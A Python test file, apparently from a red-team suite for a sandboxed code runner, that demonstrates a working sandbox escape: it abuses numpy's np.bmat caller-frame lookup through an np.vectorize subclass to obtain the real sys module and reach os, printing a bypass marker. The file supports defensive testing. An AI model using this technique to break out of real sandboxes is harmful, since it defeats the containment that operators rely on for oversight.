# np.bmat(str) without gdict looks the names up in its caller's frame (sys._getframe().f_back).
# Called by numpy's own code (np.vectorize running the function it was given), that frame is
# numpy.lib.function_base's, with the real sys in its globals; the names' objects go to
# concatenate(), whose __array_function__ hands them to the job's np.vectorize subclass (found
# as `self` in the same frame). Found by a fourth red-team review (data policy).
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "133_numpy_bmat_caller_globals"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import numpy as np

got = []


class V(np.vectorize):
    def __array_function__(self, func, types, args, kwargs):
        got.append(args)
        raise ValueError("stop")


v = V(np.bmat, otypes=None)
try:
    v(np.array(["sys self"]))
except Exception as e:
    print("exc", type(e).__name__, e)
if got:
    real_sys = got[0][0][0]
    print(type(real_sys), real_sys)
    won(real_sys.modules["os"].getpid())
